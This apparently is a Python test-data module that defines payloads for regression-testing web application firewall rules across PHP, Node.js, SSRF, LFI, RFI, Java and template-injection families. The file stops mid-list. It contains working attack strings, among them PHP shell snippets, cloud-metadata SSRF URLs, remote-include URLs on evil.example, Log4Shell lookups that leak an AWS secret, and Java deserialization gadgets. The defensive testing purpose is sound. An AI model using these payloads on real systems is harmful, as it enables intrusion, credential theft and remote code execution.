"""Blind set "sixtyseventh": a careful regression-suite author's attacks for the PHP, generic (Node.js, SSRF,
prototype pollution, Ruby, Perl, DoS, data: scheme), Java, LFI and RFI detection titles and for server- and
client-side template injection, sent the way such traffic reaches this product in production.

The angle: for each detection title (CRS 3.3.4 request rules 930xxx, 931xxx, 933xxx, 934100 and 944xxx at paranoia
levels 1-2, and the request-rule titles later CRS releases added for the same families), the attack the title
names, one payload per alternative of its family (every function, wrapper, stream, file, class, method, gadget,
scheme and template engine the author knows), then the variants a good rule must still catch (casing, whitespace
and comment substitutes, quoting, concatenation, URL and double-URL encodings a server decodes, raw serialisation
bytes). 10 to 12 payloads per title, one sub-family per title (kebab-case, listed in SUBS):
- php: php-open-tag, php-script-upload, php-config-directive, php-variables, php-io-stream, php-wrapper-scheme,
  php-high-risk-function-name, php-high-risk-function-call, php-serialized-object, php-variable-function-call,
  php-variable-function-callee (the later string/array/concatenation callees), php-medium-risk-function-name.
- generic: nodejs-injection (934100), nodejs-injection-1-of-2 and nodejs-injection-2-of-2 (the later split),
  ssrf-cloud-metadata, ssrf-ip-address, prototype-pollution, ruby-injection, perl-injection, nodejs-dos,
  php-data-scheme.
- lfi: path-traversal-encoded (930100), path-traversal (930110), os-file-access (930120), restricted-file-access
  (930130), os-file-access-headers and path-traversal-triple-dot (later titles).
- rfi: rfi-ip-address, rfi-vulnerable-param, rfi-trailing-question-mark, rfi-off-domain.
- java: java-suspicious-class (944100), java-process-spawn, java-serialization-gadget (944120),
  java-suspicious-class-generic (944130), java-magic-bytes, java-magic-bytes-base64, java-serialization-gadget-pl2
  (944240), java-suspicious-method, java-log4shell, java-class-loading, java-script-upload (later titles).
- ssti: one sub per template engine (Jinja2, Django, Twig, Smarty, Blade, FreeMarker, Velocity, Thymeleaf, Pebble,
  Jinjava, Groovy, ERB, Slim/Haml, Mako, Tornado, Handlebars, Nunjucks, Pug, EJS, Lodash, doT, Razor, Go
  templates, AngularJS, Vue) and one of engine-agnostic probes.

Placements (each payload in ONE place, each title's payloads rotated over all six): "query" (GET /api/users with q,
page and per_page in varying order, the payload form-encoded as a browser encodes it), "form" (POST
/admin/users/search, csrf_token and q), "json" (POST /api/users with the payload in one ordinary field, or a Slack
event_callback to /slack/events whose event.text carries it after a lead-in a user would type, with a made-up
signature), "path" (GET /api/users/<payload> or /api/<payload>, percent-encoding only /, ?, #, space, %, controls
and non-ASCII), "header" (the whole User-Agent mostly, else the Referer or a cookie value) and, about one in
eleven, "patch-json" (PATCH /api/users/42) or "settings-form" (POST /me/settings). Every request carries the
headers a current browser sends (User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer on
app.example.com, Sec-Fetch-*, a session cookie and a consent cookie); Slack events carry Slack's. Exceptions, by
the payload's nature: raw serialisation bytes (java-magic-bytes) go only where bytes can travel (query, form, path,
a cookie; latin-1 percent-encoded), the title naming request headers (os-file-access-headers) goes to headers
only, and a prototype-pollution payload that is a JSON object is merged into the JSON document as real keys.
The benign half uses the same six places with innocent values: Slack messages and bios of developers talking
about the same code, searches, profile fields, settings, usernames and slugs in paths, browser and client
User-Agents, Referers and preference cookies.

Authorship and independence: written from general knowledge and the detection titles alone; no rule, engine
file, ruleset regression test, other blind set or public payload list was read. Measured once through the real
stack on unchanged code. Deterministic (one seeded random source; no clock).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import b64url, print_records

NAME = "sixtyseventh"

# (category, sub, payloads): one sub per detection title
SUBS: list[tuple[str, str, list[str]]] = [
    # ---------------------------------------------------------------- PHP (933xxx)
    ("php", "php-open-tag", [
        "<?php system('id'); ?>",
        "<?PHP echo shell_exec($_GET['c']);",
        "<?=phpinfo()?>",
        "<? passthru(\"ls -la\"); ?>",
        "<?php\necho file_get_contents('/etc/passwd');",
        "<?pHp\t@eval($_POST['x']);",
        "<script language=\"php\">system('whoami');</script>",
        "<SCRIPT LANGUAGE='PHP'>echo 1;</SCRIPT>",
        "<%= system('id') %>",
        "%3C%3Fphp phpinfo();%3F%3E",
        "GIF89a<?php system($_GET[0]);?>",
        "<?php/**/exec('id');",
    ]),
    ("php", "php-script-upload", [
        "shell.php",
        "avatar.php5",
        "cmd.phtml",
        "x.php7",
        "image.jpg.php",
        "SHELL.PHP",
        "upload.phar",
        "note.php.",
        "photo.php%00.png",
        "doc.php;.jpg",
        "tool.pht",
        "source.phps",
    ]),
    ("php", "php-config-directive", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "auto_append_file=/tmp/sess_abc",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode = Off",
        "allow_url_fopen=1",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "error_log=/var/www/html/x.php",
        "ALLOW_URL_INCLUDE=ON",
        "auto_prepend_file%3d/etc/passwd",
        "php_value auto_prepend_file \"/tmp/x\"",
    ]),
    ("php", "php-variables", [
        "$_GET['cmd']",
        "$_POST[x]",
        "$_REQUEST[\"a\"]",
        "$_COOKIE['s']",
        "$_SERVER['HTTP_USER_AGENT']",
        "$_ENV['PATH']",
        "$_FILES['f']['tmp_name']",
        "$_SESSION['admin']=1",
        "$GLOBALS['config']",
        "$HTTP_RAW_POST_DATA",
        "$HTTP_GET_VARS['a']",
        "${'_GET'}[0]",
    ]),
    ("php", "php-io-stream", [
        "php://input",
        "php://stdin",
        "php://stdout",
        "php://stderr",
        "php://output",
        "php://fd/0",
        "php://memory",
        "php://temp/maxmemory:1024",
        "php://filter/resource=index.php",
        "PHP://Input",
        "php%3A%2F%2Finput",
        "file_get_contents(\"php://input\")",
    ]),
    ("php", "php-wrapper-scheme", [
        "compress.zlib:///etc/passwd",
        "compress.bzip2://uploads/a.bz2",
        "zlib://uploads/a.gz",
        "zip://uploads/a.zip#shell.php",
        "phar://uploads/avatar.jpg/x.php",
        "glob:///var/www/*",
        "expect://id",
        "ogg://uploads/a.ogg",
        "rar://uploads/a.rar#x.php",
        "ssh2.exec://user:pass@example.com:22/id",
        "EXPECT://whoami",
        "Phar://./x.phar/a",
    ]),
    ("php", "php-high-risk-function-name", [
        "phpinfo",
        "base64_decode",
        "shell_exec",
        "proc_open",
        "passthru",
        "call_user_func_array",
        "create_function",
        "fsockopen",
        "gzinflate",
        "str_rot13",
        "PCNTL_EXEC",
        "Move_Uploaded_File",
    ]),
    ("php", "php-high-risk-function-call", [
        "system('id')",
        "exec(\"whoami\")",
        "passthru ('ls')",
        "shell_exec(\t'id')",
        "eval($_POST[1])",
        "assert(\"phpinfo()\")",
        "popen('id','r')",
        "proc_open('sh',array(),$p)",
        "SYSTEM('id')",
        "system/**/('id')",
        "pcntl_exec('/bin/sh')",
        "preg_replace('/x/e','system(1)','x')",
    ]),
    ("php", "php-serialized-object", [
        "O:8:\"stdClass\":0:{}",
        "O:4:\"User\":1:{s:5:\"admin\";b:1;}",
        "a:1:{i:0;O:3:\"Foo\":0:{}}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:+4:\"Evil\":0:{}",
        "o:4:\"evil\":0:{}",
        "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\\0*\\0socket\";N;}",
        "a:2:{s:4:\"user\";s:5:\"alice\";s:4:\"role\";O:5:\"Admin\":0:{}}",
        "O:%2B4:\"Evil\":0:{}",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:1:\"x\":0:{}}",
        "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
        "O: 4:\"Evil\":0:{}",
    ]),
    ("php", "php-variable-function-call", [
        "$a('id')",
        "$func(\"ls\")",
        "$_GET['f']($_GET['a'])",
        "$x ('id');",
        "$$a('id')",
        "${'a'}('id')",
        "$f /**/ ('id')",
        "$a[0]('id')",
        "$obj->$m('x')",
        "$_POST[0]($_POST[1])",
        "$f\t(1)",
        "@$_GET[x]($_GET[y]);",
    ]),
    ("php", "php-variable-function-callee", [
        "'system'('id')",
        "\"sys\".\"tem\"('id')",
        "('sys'.'tem')('id')",
        "(system)('id')",
        "['system'][0]('id')",
        "\"\\x73ystem\"('id')",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
        "strrev('metsys')('id')",
        "base64_decode('c3lzdGVt')('id')",
        "(\"\\163\\171\\163\\164\\145\\155\")(\"id\")",
        "'sys'.'tem' ('id')",
        "\"SyStEm\"('whoami')",
    ]),
    ("php", "php-medium-risk-function-name", [
        "scandir('/')",
        "fopen('/tmp/x.php','w')",
        "chmod('x.php',0777)",
        "unlink('index.php')",
        "putenv('LD_PRELOAD=/tmp/x.so')",
        "ini_get('disable_functions')",
        "parse_str($q)",
        "extract($_GET)",
        "symlink('/etc/passwd','x')",
        "curl_exec($ch)",
        "posix_getpwuid(0)",
        "get_defined_vars()",
    ]),
    # ---------------------------------------------------------------- generic (934xxx)
    ("generic", "nodejs-injection", [
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process').execSync('id')",
        "child_process.spawnSync('ls')",
        "this.constructor.constructor('return process')()",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
        "process.binding('spawn_sync')",
        "require(\"fs\").readFileSync(\"/etc/passwd\")",
        "new Function('return process')()",
        "global.process.exit()",
        "require ( 'child_process' ) . execSync ( 'id' )",
        "process['mainModule']['require']('child_process')",
    ]),
    ("generic", "nodejs-injection-1-of-2", [
        "require('child'+'_process').exec('id')",
        "process[\"main\"+\"Module\"].require('fs')",
        "import('child_process').then(m=>m.execSync('id'))",
        "module.constructor._load('child_process')",
        "require(String.fromCharCode(102,115))",
        "globalThis.process.env",
        "process.env.AWS_SECRET_ACCESS_KEY",
        "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
        "vm.runInThisContext('process.exit()')",
        "Reflect.get(process,'mainModule').require('fs')",
        "require(`child_process`).execSync(`id`)",
        "require.main.require('child_process')",
    ]),
    ("generic", "nodejs-injection-2-of-2", [
        "[].constructor.constructor('return this')()",
        "''.constructor.constructor('return process')()",
        "setTimeout('process.exit()',0)",
        "setInterval(\"require('fs')\",10)",
        "Function('return process')()",
        "(function(){}).constructor('return process')()",
        "Object.getPrototypeOf(async function(){}).constructor('return process')()",
        "Object.getPrototypeOf(function*(){}).constructor('return process')()",
        "eval('require')('child_process')",
        "process.dlopen(module,'/tmp/x.node')",
        "setImmediate(\"process.kill(process.pid)\")",
        "(()=>{}).constructor(\"return process\")()",
    ]),
    ("generic", "ssrf-cloud-metadata", [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/api/token",
        "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
        "http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.169.254/opc/v1/instance/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/",
        "http://169.254.169.254/openstack/latest/meta_data.json",
        "HTTP://169.254.169.254/metadata/v1.json",
        "http://[::ffff:a9fe:a9fe]/latest/user-data",
    ]),
    ("generic", "ssrf-ip-address", [
        "http://127.0.0.1:8080/admin",
        "http://2130706433/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://017700000001/",
        "http://127.1/",
        "http://0/",
        "http://[::1]:6379/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "http://10.0.0.1/server-status",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://3232235521/",
    ]),
    ("generic", "prototype-pollution", [
        "__proto__[isAdmin]=true",
        "constructor[prototype][isAdmin]=true",
        "__proto__.polluted=yes",
        "{\"__proto__\":{\"isAdmin\":true}}",
        "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
        "a[__proto__][x]=1",
        "Object.prototype.isAdmin=true",
        "x.__proto__.shell='/bin/sh'",
        "obj['__proto__']['toString']=1",
        "%5F%5Fproto%5F%5F[admin]=1",
        "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
        ".execSync('id');s\"}}",
        "constructor.prototype.admin=1",
    ]),
    ("generic", "ruby-injection", [
        "Kernel.exec('id')",
        "%x(id)",
        "%x{whoami}",
        "IO.popen(\"id\").read",
        "open(\"|id\").read",
        "Open3.capture2(\"id\")",
        "instance_eval(\"`id`\")",
        "send(:system,'id')",
        "Object.const_get(:Kernel).system('id')",
        "File.read('/etc/passwd')",
        "Process.spawn('id')",
        "YAML.load(\"--- !ruby/object:Gem::Installer\\ni: x\")",
    ]),
    ("generic", "perl-injection", [
        "qx{id}",
        "qx(whoami)",
        "exec '/bin/sh'",
        "open(F, \"|id\")",
        "open(my $f,\"-|\",\"id\")",
        "eval { system 'id' }",
        "use POSIX; POSIX::system('id')",
        "@{[ system 'id' ]}",
        "${\\ `id`}",
        "do '/tmp/x.pl'",
        "perl -e 'system(\"id\")'",
        "print `cat /etc/passwd`",
    ]),
    ("generic", "nodejs-dos", [
        "while(true){}",
        "for(;;){}",
        "do{}while(true)",
        "while (1) {}",
        "for(;;);",
        "while(!false){}",
        "new Array(1e9).fill(0)",
        "'a'.repeat(2**30)",
        "Buffer.alloc(2**31)",
        "(function f(){f()})()",
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
        "WHILE(TRUE){}",
    ]),
    ("generic", "php-data-scheme", [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data://text/plain,<?php phpinfo();?>",
        "data:text/plain,<?php system('id');?>",
        "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "DATA://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "data://application/x-httpd-php;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "data://image/jpeg;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
        "data://text/plain;charset=utf-8,<?=`id`?>",
        "data%3A//text/plain,%3C%3Fphp%20phpinfo()%3B%3F%3E",
        "data://text/plain;base64,PD89YGlkYD8+",
        "Data:Text/Plain;Base64,PD9waHAgZXhlYygnaWQnKTs/Pg==",
        "data://,<?php echo 1;?>",
    ]),
    # ---------------------------------------------------------------- LFI (930xxx)
    ("lfi", "path-traversal-encoded", [
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fetc/passwd",
        "%2e%2e/%2e%2e/boot.ini",
        "..%5c..%5cwindows%5cwin.ini",
        "%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "..%u2215..%u2215etc%u2215passwd",
        "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc/hosts",
        "..%e0%80%af..%e0%80%afetc/shadow",
        ".%2e/.%2e/etc/hosts",
        "..%255c..%255cwindows%255cwin.ini",
        "%2E%2E%2F%2E%2E%2Fproc%2Fself%2Fenviron",
    ]),
    ("lfi", "path-traversal", [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "..//..//..//etc/group",
        "/../../../../etc/shadow",
        "..;/..;/WEB-INF/web.xml",
        "..\\/..\\/etc/hosts",
        ".\\..\\.\\..\\boot.ini",
        "/var/www/../../etc/issue",
        "../../../../etc/passwd%00.png",
        "../../../../../../../../../../proc/self/environ",
        "..\\..\\inetpub\\wwwroot\\web.config",
    ]),
    ("lfi", "os-file-access", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "C:/boot.ini",
        "/root/.ssh/id_rsa",
        "/var/log/apache2/access.log",
        "/proc/self/cmdline",
        "c:\\inetpub\\wwwroot\\web.config",
        "/ETC/PASSWD",
        "/etc//shadow",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
    ]),
    ("lfi", "restricted-file-access", [
        ".htaccess",
        ".htpasswd",
        ".git/config",
        ".env",
        "web.config",
        ".svn/entries",
        "WEB-INF/web.xml",
        ".aws/credentials",
        ".bash_history",
        "wp-config.php.bak",
        ".HTACCESS",
        ".git%2fHEAD",
    ]),
    ("lfi", "os-file-access-headers", [
        "/etc/passwd",
        "../../../../etc/passwd",
        "/proc/self/environ",
        "C:\\Windows\\win.ini",
        "file:///etc/shadow",
        "..%2f..%2f..%2fetc%2fpasswd",
        "/etc/hosts",
        "..\\..\\..\\boot.ini",
        "/root/.bash_history",
        "https://app.example.com/../../../../etc/passwd",
        "/var/log/nginx/access.log",
        "/proc/1/cmdline",
    ]),
    ("lfi", "path-traversal-triple-dot", [
        ".../.../etc/passwd",
        "...\\...\\windows\\win.ini",
        "/.../.../.../etc/shadow",
        ".../...//etc/hosts",
        "%2e%2e%2e/%2e%2e%2e/etc/passwd",
        "...%2f...%2fetc%2fpasswd",
        "..../..../etc/passwd",
        "..././..././etc/passwd",
        ".../.../.../boot.ini",
        "/.../.../proc/self/environ",
        "....\\\\....\\\\windows\\\\win.ini",
        "...%5c...%5cboot.ini",
    ]),
    # ---------------------------------------------------------------- RFI (931xxx)
    ("rfi", "rfi-ip-address", [
        "http://203.0.113.5/shell.txt",
        "https://198.51.100.7/x.php",
        "ftp://192.0.2.44/pub/c99.txt",
        "http://203.0.113.5:8080/inc.txt?",
        "HTTP://198.51.100.23/r57.txt",
        "http://[2001:db8::1]/shell.txt",
        "ftps://203.0.113.9/payload.txt",
        "http://3405803781/shell.txt",
        "//203.0.113.5/x.txt",
        "\\\\203.0.113.5\\share\\x.php",
        "http://user@203.0.113.5/x.txt",
        "https://203.0.113.5/?",
    ]),
    ("rfi", "rfi-vulnerable-param", [
        "include(http://evil.example/x.txt)",
        "mosConfig_absolute_path=http://evil.example/x.txt?",
        "_CONF[path]=http://evil.example/x.txt?",
        "_SERVER[DOCUMENT_ROOT]=http://evil.example/x.txt?",
        "GALLERY_BASEDIR=http://evil.example/x.txt?",
        "path[docroot]=http://evil.example/x.txt?",
        "appserv_root=http://evil.example/x.txt?",
        "config[root_dir]=https://evil.example/x.txt?",
        "include (ftp://evil.example/x.txt)",
        "page=http://evil.example/shell.txt",
        "INCLUDE( 'http://evil.example/x' )",
        "template=https://evil.example/t.php?",
    ]),
    ("rfi", "rfi-trailing-question-mark", [
        "http://evil.example/shell.txt?",
        "https://evil.example/x.php?",
        "ftp://evil.example/x.txt?",
        "http://evil.example/c99.txt??",
        "HTTP://EVIL.EXAMPLE/X.TXT?",
        "http://evil.example/r57.txt?&",
        "https://evil.example/inc?cmd=id?",
        "http://evil.example:8080/a.txt?",
        "http://evil.example/x.txt%3F",
        "//evil.example/x.txt?",
        "http://evil.example/x.txt?%00",
        "ftps://evil.example/y.txt?",
    ]),
    ("rfi", "rfi-off-domain", [
        "http://evil.example/shell.txt",
        "https://attacker.test/x.php",
        "ftp://files.evil.example/x.txt",
        "file://evil.example/share/x.php",
        "https://pastebin.example/raw/abc123",
        "HTTPS://Evil.Example/A.TXT",
        "http://evil.example/x.txt#",
        "https://evil.example/x.txt#.jpg",
        "http://evil.example/payload.txt%00",
        "https://evil.example:443/a.inc",
        "ftps://evil.example/c.txt",
        "http:\\\\evil.example\\x.txt",
    ]),
    # ---------------------------------------------------------------- Java (944xxx)
    ("java", "java-suspicious-class", [
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "java.lang.ProcessBuilder",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "java.lang.Runtime",
        "Runtime.getRuntime().exec('calc')",
        "java.lang.System.getenv()",
        "java.lang.reflect.Method",
        "java.lang.Class.forName(\"x\")",
        "JAVA.LANG.RUNTIME",
        "java.lang.ClassLoader",
        "java/lang/Runtime",
        "java.lang.Run%74ime",
    ]),
    ("java", "java-process-spawn", [
        "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml."
        "internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml."
        "internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\">"
        "<cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
        "<iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\">"
        "<command><string>id</string></command></next></serviceIterator></cipher></is></dataSource>"
        "</dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>",
        "new ProcessBuilder(\"sh\",\"-c\",\"id\").start()",
        "<java.lang.ProcessBuilder><command><string>calc</string></command></java.lang.ProcessBuilder>",
        "java.lang.ProcessBuilder.start",
        "[\"bash\",\"-c\",\"id\"].execute()",
        "Runtime.getRuntime().exec(new String[]{\"cmd\",\"/c\",\"dir\"})",
        "<object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void "
        "index=\"0\"><string>id</string></void></array><void method=\"start\"/></object>",
        "java.lang.ProcessImpl.start",
        "java.lang.UNIXProcess",
        "new   ProcessBuilder ( \"id\" ) . start ( )",
        "<next class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c</string>"
        "<string>id</string></command><redirectErrorStream>false</redirectErrorStream></next>",
        "NEW PROCESSBUILDER(\"ID\").START()",
    ]),
    ("java", "java-serialization-gadget", [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "org.apache.commons.collections.functors.ConstantTransformer java.lang.Runtime getRuntime exec",
        "org.apache.commons.collections.functors.InstantiateTransformer",
        "org.apache.commons.collections4.functors.InvokerTransformer",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.codehaus.groovy.runtime.MethodClosure",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "org.apache.commons.collections.functors.CloneTransformer",
        "org.apache.commons.collections.functors.InstantiateFactory",
        "org.apache.commons.collections.functors.PrototypeSerializationFactory",
        "java.beans.XMLDecoder java.io.FileWriter",
    ]),
    ("java", "java-suspicious-class-generic", [
        "javax.script.ScriptEngineManager",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\","
        "\"autoCommit\":true}",
        "java.beans.XMLDecoder",
        "javax.naming.InitialContext",
        "java.net.URLClassLoader",
        "groovy.lang.GroovyShell",
        "bsh.Interpreter",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
        "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
        "sun.misc.Unsafe",
        "jdk.nashorn.api.scripting.NashornScriptEngine",
        "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://evil.example/a\"}]",
    ]),
    ("java", "java-magic-bytes", [
        "\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
        "\xac\xed\x00\x05t\x00\x04test",
        "\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;",
        "\xac\xed\x00\x05w\x04\x00\x00\x00\x01",
        "aced0005737200176a6176612e7574696c2e5072696f726974795175657565",
        "ACED00057372",
        "\\xac\\xed\\x00\\x05sr",
        "%ac%ed%00%05sr%00%11java.util.HashMap",
        "ac ed 00 05 73 72",
        "0xACED0005",
        "\xac\xed\x00\x05sr\x002org.apache.commons.collections.keyvalue.TiedMapEntry",
        "\xac\xed\x00\x05sr\x00\x0cjava.net.URL",
    ]),
    ("java", "java-magic-bytes-base64", [
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "rO0ABXQABHRlc3Q=",
        "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
        "rO0ABXcEAAAAAQ==",
        "rO0AB",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
        "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7EAAMGIDdMZAAAA",
        "rO0ABXNyADJvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMua2V5dmFsdWUuVGllZE1hcEVudHJ5",
        "javax.faces.ViewState=rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7",
        "%72%4f%30%41%42%58%4e%79",
        "rO0ABXNyAAxqYXZhLm5ldC5VUkw=",
        "  rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    ]),
    ("java", "java-serialization-gadget-pl2", [
        "org.apache.commons.beanutils.BeanComparator",
        "[\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",{\"transletBytecodes\":[\"yv66vgAAADQ\"],"
        "\"transletName\":\"a\",\"outputProperties\":{}}]",
        "org.hibernate.property.BasicPropertyAccessor$BasicGetter",
        "com.sun.syndication.feed.impl.ObjectBean",
        "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
        "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
        "net.sf.json.JSONObject",
        "java.util.PriorityQueue org.apache.commons.collections4.comparators.TransformingComparator",
        "javax.management.BadAttributeValueExpException",
        "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans."
        "EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
        "</target><action>start</action></handler></dynamic-proxy></sorted-set>",
        "clojure.core$comp",
        "ysoserial CommonsCollections5 \"id\"",
    ]),
    ("java", "java-suspicious-method", [
        "getRuntime().exec(\"id\")",
        "x.getClass().getMethod(\"exec\",String.class)",
        "m.invoke(null)",
        "c.newInstance()",
        "Class.forName(\"java.lang.Runtime\")",
        "getDeclaredMethod(\"getRuntime\")",
        "f.setAccessible(true)",
        "getClassLoader().loadClass(\"Evil\")",
        "defineClass(\"Evil\",b,0,b.length)",
        "p.getInputStream()",
        "new ScriptEngineManager().getEngineByName(\"js\").eval(\"1\")",
        "GETRUNTIME ( ) . EXEC ( 'id' )",
    ]),
    ("java", "java-log4shell", [
        "${jndi:ldap://evil.example:1389/a}",
        "${jndi:rmi://evil.example/a}",
        "${jndi:dns://evil.example/a}",
        "${jndi:ldaps://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
        "${jNdI:LdAp://evil.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "${${upper:j}ndi:iiop://evil.example/a}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
        "${${k8s:k5:-J}${k8s:k5:-ND}i:nis://evil.example/a}",
    ]),
    ("java", "java-class-loading", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
        "class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell",
        "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
        "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/",
        "class['classLoader']['resources']",
        "Class.Module.ClassLoader.DefaultAssertionStatus=true",
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://evil.example/\")})"
        ".loadClass(\"x\")",
        "Thread.currentThread().getContextClassLoader().loadClass(\"Evil\")",
        "class[module][classLoader][resources][context]",
        "%63lass.module.classLoader.DefaultAssertionStatus=1",
    ]),
    ("java", "java-script-upload", [
        "shell.jsp",
        "cmd.jspx",
        "inc.jspf",
        "a.jsw",
        "a.jsv",
        "SHELL.JSP",
        "upload.jsp%00.jpg",
        "x.jsp;.png",
        "x.jsp.",
        "../webapps/ROOT/x.jsp",
        "x.jspx::$DATA",
        "avatar.png.jsp",
    ]),
    # ---------------------------------------------------------------- SSTI, one sub per engine
    ("ssti", "ssti-jinja2", [
        "{{7*7}}",
        "{{config.items()}}",
        "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{%print(7*7)%}",
        "{{ ''['__cla'+'ss__'] }}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
        "{{joiner.__init__.__globals__.os.popen('whoami').read()}}",
    ]),
    ("ssti", "ssti-django", [
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.password }}{% endfor %}",
        "{% include \"/etc/passwd\" %}",
        "{{ messages.storages.0.signer.key }}",
        "{{ request.user.password }}",
        "{% ssi '/etc/passwd' %}",
        "{{ settings.DATABASES.default.PASSWORD }}",
        "{% load module %}",
        "{{ request.META }}",
        "{%debug%}",
    ]),
    ("ssti", "ssti-twig", [
        "{{7*'7'}}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{['id']|filter('system')}}",
        "{{['id']|map('system')|join}}",
        "{{['cat /etc/passwd']|filter('passthru')}}",
        "{{app.request.server.all|join(',')}}",
        "{{ dump(app) }}",
        "{{ '/etc/passwd'|file_excerpt(1,30) }}",
        "{{ ['id',1]|sort('system') }}",
        "{{[0]|reduce('system','id')}}",
        "{% set x = ['id']|filter('exec') %}{{x}}",
        "{{ source('/etc/passwd') }}",
    ]),
    ("ssti", "ssti-smarty", [
        "{$smarty.version}",
